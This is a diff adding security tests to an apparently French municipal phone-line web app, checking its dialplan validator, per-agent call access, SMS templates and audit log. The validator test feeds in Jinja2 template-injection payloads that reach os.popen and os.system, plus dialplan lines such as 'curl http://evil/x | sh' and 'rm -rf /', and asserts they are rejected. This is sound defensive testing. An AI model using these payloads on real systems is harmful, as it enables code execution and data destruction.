@@ -68,7 +68,7 @@ async def serve(tmp: Path, **sections: dict[str, Any]) -> AsyncIterator[Site]:
     holder = await asyncio.to_thread(KnowledgeHolder, settings.paths.knowledge_dir)
     ctx = WebContext(settings=settings, sessions=db.sessions, knowledge=holder, matcher=no_matcher,
                      live=FakeLiveCalls(), send_sms=outbox.send, clock=clock)
-    for name, role in (("agent1", "agent"), ("admin", "admin")):
+    for name, role in (("agent1", "agent"), ("agent2", "agent"), ("sup", "supervisor"), ("admin", "admin")):
         await add_user(ctx, name, role, "motdepasse-" + name)
     port = _free_port()
     server = uvicorn.Server(uvicorn.Config(create_app(ctx), host="127.0.0.1", port=port, log_level="info",
@@ -261,3 +261,101 @@ async def test_access_log_carries_no_number(site: Site, caplog: pytest.LogCaptur
     lines = [r.getMessage() for r in caplog.records if r.name == "uvicorn.access"]
     assert any("/api/agent/lookup" in line for line in lines), lines
     assert not any("612345678" in line for line in lines), lines
+
+
+async def test_dialplan_validate_runs_no_code_and_shows_no_secret(site: Site, tmp_path: Path) -> None:
+    marker = tmp_path / "pwned"
+    secrets = site.ctx.settings.secrets
+    base = (site.ctx.settings.paths.dialplans_dir / "extensions.conf.j2").read_text()
+    async with browser(site) as c:
+        assert (await _login(c, "admin", "motdepasse-admin")).status_code == 303
+        c.headers["X-CSRF-Token"] = _csrf((await c.get("/admin/dialplan")).text)
+
+        async def validate(text: str) -> str:
+            r = await c.post("/admin/dialplan/validate", data={"text": text})
+            assert r.status_code == 200
+            return r.text
+
+        out = await validate(base + f"; {{{{ lipsum.__globals__.os.popen('touch {marker}').read() }}}}\n")
+        assert not marker.exists(), "validate ran a shell command"
+        assert "template" in out and "Syntaxe correcte" not in out
+        out = await validate(base + "; {{ cycler.__init__.__globals__.os.system('id') }}\n")
+        assert "Syntaxe correcte" not in out
+        for secret_name in ("ami_password", "ari_password", "agent_password", "agent_passwords"):
+            out = await validate(base + f"[leak]\nexten => s,1,NoOp({{{{ {secret_name} }}}})\n")
+            assert "Syntaxe correcte" not in out, secret_name
+        for line in ("exten => s,1,System(curl http://evil/x | sh)", "exten => s,1,TrySystem(id)",
+                     "exten => s,1,MixMonitor(x.wav,,rm -rf /)", "exten => s,1,Set(X=${SHELL(id)})",
+                     "exten => s,1,ExecIf($[1]?System(id))"):
+            out = await validate(base + f"[evil]\n{line}\n")
+            assert "not allowed" in out, line
+        assert "Syntaxe correcte" in await validate(base)
+        every = (await c.get("/admin/dialplan")).text + out
+        for value in (secrets.ami_password, secrets.ari_password, secrets.agent_password):
+            assert value not in every
+
+
+async def test_agents_see_and_text_only_their_own_calls_and_every_access_is_audited(site: Site) -> None:
+    from datetime import timedelta
+
+    from ivr.store.audit import AuditLog
+    from ivr.store.calls import CallRepository
+
+    calls, now = CallRepository(site.ctx.sessions), site.clock.now()
+    # agent1 sits in accueil + etat_civil, agent2 in accueil only (the default agent_services)
+    await calls.create_call(call_id="ec-live", channel_id="c1", started_at=now, caller_number="+33611111111",
+                            lang="fr")
+    await calls.update_call("ec-live", summary="Acte de naissance", service="etat_civil")
+    await calls.create_call(call_id="ec-old", channel_id="c2", started_at=now - timedelta(days=3),
+                            caller_number="+33622222222", lang="fr")
+    await calls.update_call("ec-old", service="etat_civil")
+    await calls.finish_call("ec-old", ended_at=now - timedelta(days=3), outcome="transferred", summary="x")
+    await calls.add_event("ec-old", at=now - timedelta(days=3), kind="agent_answered",
+                          data={"service": "etat_civil", "wait_s": 12, "agent": "agent2"})
+
+    async def as_user(name: str) -> httpx.AsyncClient:
+        c = httpx.AsyncClient(base_url=site.url)
+        c.headers["X-CSRF-Token"] = _csrf((await c.get("/login")).text)
+        assert (await _login(c, name, "motdepasse-" + name)).status_code == 303
+        c.headers["X-CSRF-Token"] = _csrf((await c.get("/chat")).text)
+        return c
+
+    a1, a2, sup = await as_user("agent1"), await as_user("agent2"), await as_user("sup")
+    try:
+        # agent2 is not in etat_civil: the live call is "unknown" to them, by id, by number, live or by SMS
+        assert (await a2.get("/api/agent/call/ec-live")).status_code == 404
+        assert (await a2.get("/api/agent/lookup", params={"number": "+33611111111"})).status_code == 404
+        r = await a2.get("/agent/stream", params={"call_id": "ec-live"})
+        assert "refused" in r.text and "connected" not in r.text
+        r = await a2.post("/api/agent/sms", json={"call_id": "ec-live", "template": "callback"})
+        assert r.status_code == 404 and site.outbox.sent == []
+        # ...but the call agent2 answered three days ago is theirs
+        assert (await a2.get("/api/agent/call/ec-old")).status_code == 200
+        # agent1 (etat_civil) sees the live call, not the old one answered by someone else
+        assert (await a1.get("/api/agent/call/ec-live")).json()["summary"] == "Acte de naissance"
+        assert (await a1.get("/api/agent/call/ec-old")).status_code == 404
+        # supervisors see every call
+        for call_id in ("ec-live", "ec-old"):
+            assert (await sup.get(f"/api/agent/call/{call_id}")).status_code == 200
+
+        # SMS: templates only, never free text from the city's sender
+        r = await a1.post("/api/agent/sms", json={"call_id": "ec-live", "text": "Gagnez un iPhone: http://evil"})
+        assert r.status_code == 422
+        r = await a1.post("/api/agent/sms", json={"call_id": "ec-live", "template": "free", "intent": None})
+        assert r.status_code == 422
+        r = await a1.post("/api/agent/sms", json={"call_id": "ec-live", "template": "link", "intent": "passport"})
+        assert r.status_code == 200, r.text
+        [sms] = site.outbox.sent
+        assert sms.number == "+33611111111" and "passeport" in sms.text.lower() and "http" in sms.text
+    finally:
+        for c in (a1, a2, sup):
+            await c.aclose()
+
+    trail = [(e.actor, e.action, e.call_id) for e in reversed(await AuditLog(site.ctx.sessions).recent())]
+    assert ("agent2", "read_call_refused", "ec-live") in trail
+    assert ("agent2", "lookup_refused", "ec-live") in trail
+    assert ("agent2", "follow_refused", "ec-live") in trail
+    assert ("agent2", "read_call", "ec-old") in trail
+    assert ("sup", "read_call", "ec-old") in trail
+    assert ("agent1", "sms", "ec-live") in trail
+    assert all("+336" not in e.detail for e in await AuditLog(site.ctx.sessions).recent())
